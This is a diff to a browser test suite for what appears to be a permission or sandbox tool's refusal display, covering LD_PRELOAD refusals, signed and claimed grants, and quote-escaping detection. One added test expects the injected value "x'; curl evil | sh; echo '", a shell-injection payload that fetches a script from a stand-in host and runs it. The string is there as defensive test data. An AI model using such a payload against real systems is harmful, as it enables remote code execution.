@@ -71,6 +71,7 @@ inChromium("a refusal says what is wrong and whose move it is", async (t, open) 
     assert.deepEqual(await texts(".asked.wrong code"), ["LD_PRELOAD"]);
     assert.deepEqual(await texts(".ladder b"), ["yes", "yes", "yes", "yes", "no"]);
     assert.deepEqual(await texts(".marks .refused"), ['"LD_PRELOAD"']);
+    assert.match((await texts(".grant th"))[0]!, /^Signed/);
   });
 
   await t.step("a stranger's key: the operator's, or the author's", async () => {
@@ -85,6 +86,13 @@ inChromium("a refusal says what is wrong and whose move it is", async (t, open) 
       "not asked",
     ]);
     assert.deepEqual(await texts(".carried .bad"), ["not pinned"]);
+    assert.match((await texts(".grant.claimed th"))[0]!, /^Claimed/);
+  });
+
+  await t.step("a hole that leaves its quotes: which one, and by what", async () => {
+    await visit.go("workload", "quote");
+    assert.deepEqual(await texts(".misfit"), ["x'; curl evil | sh; echo '"]);
+    assert.match((await texts(".why-not"))[0]!, /\{\{target\}\}.*single quote/);
   });
 
   await t.step("every record of the document is shown with its length", async () => {
